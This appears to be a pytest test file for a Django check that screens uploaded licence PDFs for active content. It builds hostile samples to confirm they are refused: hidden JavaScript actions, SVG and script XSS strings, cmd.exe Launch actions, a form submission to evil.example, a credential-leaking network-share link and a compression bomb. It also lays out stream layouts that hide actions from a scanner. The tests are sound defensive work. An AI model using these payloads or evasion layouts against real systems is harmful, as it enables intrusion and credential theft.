"""The licence check looks inside a PDF as a reader does (issue 31): names with #xx escapes
decoded, Flate streams (object streams among them) inflated within a size cap, and SVG or HTML
markup refused wherever it appears."""

import time
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from apps.tenants.licence import MAX_DECODED_PDF_BYTES, validate_licence


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def flate_stream(data: bytes, extra: bytes = b"") -> bytes:
    packed = zlib.compress(data)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (
        len(packed),
        extra,
        packed,
    )


def check(content: bytes) -> None:
    validate_licence(SimpleUploadedFile("licence.pdf", content, "application/pdf"))


def assert_refused(content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as excinfo:
        check(content)
    assert excinfo.value.code == "licence_content"
    return excinfo.value


CLEAN = pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [5 0 R]"
    b" /Resources << /Font << /F1 6 0 R >> >> >>",
    flate_stream(b"BT /F1 12 Tf 72 720 Td (Business licence 91350100M000100Y4X) Tj ET"),
    # A plain link does nothing until clicked, and readers ask before leaving the document.
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
    b" /A << /S /URI /URI (https://example.com) >> >>",
    b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    flate_stream(b"7 0 << /Producer (Scanner) >>", b"/Type /ObjStm /N 1 /First 4"),
)


def test_a_clean_pdf_with_compressed_streams_is_accepted():
    check(CLEAN)


def test_a_hex_escaped_javascript_name_is_refused():
    assert_refused(
        pdf(b"<< /Type /Catalog /OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> >>")
    )


def test_svg_with_an_event_handler_is_refused():
    assert_refused(pdf(b"<< /Type /Catalog >>", b"(<svg onload=alert(document.domain)>)"))


def test_an_action_inside_a_compressed_object_stream_is_refused():
    action = b"8 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
    assert_refused(
        pdf(
            b"<< /Type /Catalog /OpenAction 8 0 R >>",
            flate_stream(action, b"/Type /ObjStm /N 1 /First 4"),
        )
    )


def test_markup_inside_a_compressed_stream_is_refused():
    assert_refused(pdf(b"<< /Type /Catalog >>", flate_stream(b"<script>alert(1)</script>")))


def test_a_compression_bomb_is_refused_quickly():
    bomb = zlib.compressobj(9)
    packed = b"".join(bomb.compress(b"\0" * 2**20) for _ in range(MAX_DECODED_PDF_BYTES // 2**19))
    packed += bomb.flush()  # twice the cap, from a file of a few dozen KB
    content = pdf(
        b"<< /Type /Catalog >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed),
    )

    started = time.monotonic()
    error = assert_refused(content)

    assert time.monotonic() - started < 2
    assert "20 MB" in error.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        # The /Filter key hidden by an escape still names the stream's compression.
        pdf(flate_stream(b"<< /S /Launch /F (cmd.exe) >>").replace(b"/Filter", b"/Fil#74er")),
        pdf(b"<< /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >>"),
        pdf(b"<< /Type /Catalog /AcroForm << /XFA 2 0 R >> >>"),
        pdf(b"<< /A << /S /SubmitForm /F (https://evil.example) >> >>"),
    ],
)
def test_other_active_content_is_refused(content):
    assert_refused(content)


@pytest.mark.parametrize(
    "content",
    [
        pdf(b"<< /Length 9 /Filter /FlateDecode >>\nstream\nnot zlib!\nendstream"),
        pdf(b"<< /Length 4 /Filter /LZWDecode >>\nstream\nabcd\nendstream"),
        pdf(b"<< /Type /Catalog >>").replace(b"trailer <<", b"trailer << /Encrypt 9 0 R"),
    ],
)
def test_a_pdf_that_cannot_be_read_is_refused(content):
    assert_refused(content)


# Where a stream starts and ends and which filters decode it decide what is judged, so they are
# read as readers read them (issue 31, second round). Each layout below hid an action from the
# check that a reader runs: the same layout holding a harmless object is still accepted.
ACTION = b"8 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
HARMLESS = b"8 0 << /Type /Annot /Subtype /Text /Contents (Seal) >>"
OBJECT_STREAM = (
    b"<< %s /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode %s /Length %d >>\n%s%s\nendstream"
)


def object_stream(
    body: bytes, *, before: bytes = b"", after: bytes = b"", keyword: bytes = b"stream\n"
) -> bytes:
    """An object stream holding `body`, with more entries before and after /Filter."""
    packed = zlib.compress(body)
    return OBJECT_STREAM % (before, after, len(packed), keyword, packed)


def after_a_stream_whose_length_is_given_twice(body: bytes) -> bytes:
    """A short content stream, then the object: the stream's own /Length ends the stream
    before it, while a /Length nested in another value spans it, up to a second endstream."""
    packed = zlib.compress(b"q Q")
    tail = b"\nendstream\nendobj\n%s\nendobj " % body.replace(b"8 0 ", b"8 0 obj ", 1)
    lengths = b"/Note << /Length %d >> /Length %d" % (len(packed) + len(tail), len(packed))
    return b"<< /Filter /FlateDecode %s >>\nstream\n%s%s\nendstream" % (lengths, packed, tail)


LAYOUTS = {
    # "obj" in a string once made the dictionary seem to start after /Filter.
    "obj inside the dictionary": lambda body: object_stream(body, after=b"/Note (obj)"),
    # A /Filter nested in another value once counted as the stream's own.
    "nested image filter": lambda body: object_stream(body, before=b"/X << /Filter /DCT >>"),
    # Readers allow spaces between the stream keyword and its line end.
    "spaces after stream": lambda body: object_stream(body, keyword=b"stream  \n"),
    "nested /Length": after_a_stream_whose_length_is_given_twice,
}


@pytest.mark.parametrize("layout", LAYOUTS.values(), ids=LAYOUTS.keys())
def test_an_action_hidden_by_the_stream_layout_is_refused(layout):
    assert_refused(pdf(b"<< /Type /Catalog /OpenAction 8 0 R >>", layout(ACTION)))


@pytest.mark.parametrize("layout", LAYOUTS.values(), ids=LAYOUTS.keys())
def test_the_same_layout_without_an_action_is_accepted(layout):
    check(pdf(b"<< /Type /Catalog >>", layout(HARMLESS)))


def paeth(left: int, up: int, up_left: int) -> int:
    guess = left + up - up_left
    return min((abs(guess - left), left), (abs(guess - up), up), (abs(guess - up_left), up_left))[1]


def predicted(data: bytes, predictor: int, columns: int = 8) -> bytes:
    """`data` in rows of `columns` bytes, each byte stored as its difference from what the
    predictor guesses: TIFF (2) from the left byte, PNG (10 + type) by the row's type byte."""
    kind = 1 if predictor == 2 else predictor - 10
    encoded, above = b"", bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start : start + columns].ljust(columns, b" ")
        differences = []
        for i, byte in enumerate(row):
            left, up, up_left = row[i - 1] if i else 0, above[i], above[i - 1] if i else 0
            guess = [0, left, up, (left + up) // 2, paeth(left, up, up_left)][kind]
            differences.append((byte - guess) % 256)
        encoded += bytes(differences if predictor == 2 else [kind, *differences])
        above = row
    return encoded


@pytest.mark.parametrize(
    "predictor", [2, 11, 12, 13, 14], ids=["tiff", "sub", "up", "average", "paeth"]
)
def test_an_action_behind_a_predictor_is_refused(predictor):
    """Readers undo a predictor after inflating; the inflated bytes alone show no names."""
    parameters = b"/DecodeParms << /Predictor %d /Columns 8 >>" % predictor
    assert b"JavaScript" not in predicted(ACTION, predictor)

    assert_refused(
        pdf(
            b"<< /Type /Catalog /OpenAction 8 0 R >>",
            OBJECT_STREAM % (b"", parameters, *_packed(predicted(ACTION, predictor))),
        )
    )
    check(
        pdf(
            b"<< /Type /Catalog >>",
            OBJECT_STREAM % (b"", parameters, *_packed(predicted(HARMLESS, predictor))),
        )
    )


def _packed(data: bytes) -> tuple[int, bytes, bytes]:
    packed = zlib.compress(data)
    return len(packed), b"stream\n", packed


INSIDE_AN_IMAGE = b"9 0 obj " + object_stream(ACTION)


@pytest.mark.parametrize(
    "content",
    [
        # An object where no object starts (here in an image's pixels): a reader rebuilding a
        # damaged file's index would find it; the check, skipping pixels, would not.
        pdf(
            b"<< /Type /Catalog >>",
            b"<< /Subtype /Image /Length %d >>\nstream\n%s\nendstream"
            % (len(INSIDE_AN_IMAGE), INSIDE_AN_IMAGE),
        ),
        # A key given twice: readers differ on which copy counts.
        pdf(b"<< /Length 3 /Length 4 >>\nstream\nabcd\nendstream"),
        # The stream keyword with no dictionary before it.
        pdf(b"[1 2] stream\nabcd\nendstream"),
    ],
    ids=["object inside an image", "key given twice", "stream without dictionary"],
)
def test_a_pdf_readers_would_read_differently_is_refused(content):
    assert_refused(content)


def test_a_go_to_into_another_file_is_refused():
    """A reader may open it from a network share, handing over the operator's credentials."""
    assert_refused(pdf(b"<< /A << /S /GoToR /F (//203.0.113.9/share/x.pdf) >> >>"))


def hex_stream(data: bytes) -> bytes:
    encoded = data.hex().encode() + b">"
    return b"<< /Filter /ASCIIHexDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(encoded),
        encoded,
    )


def test_hex_encoded_streams_are_decoded_and_judged():
    check(pdf(b"<< /Type /Catalog >>", hex_stream(b"BT (Licence) Tj ET")))
    assert_refused(pdf(b"<< /Type /Catalog >>", hex_stream(b"<< /S /Launch /F (cmd.exe) >>")))


def test_an_update_appended_right_after_the_end_of_file_marker_is_accepted():
    """Some writers append an incremental update with no line break after %%EOF."""
    first = pdf(b"<< /Type /Catalog >>").rstrip(b"\n")
    check(first + b"1 0 obj\r<< /Type /Catalog /Lang (zh-CN) >>\rendobj\rtrailer << >>\r%%EOF\r")


def test_a_flood_of_brackets_is_refused_quickly():
    content = pdf(b"[" + b"<<>>" * 300_000 + b"]")  # 1.2 MB, 600,000 brackets

    started = time.monotonic()
    assert_refused(content)

    assert time.monotonic() - started < 3
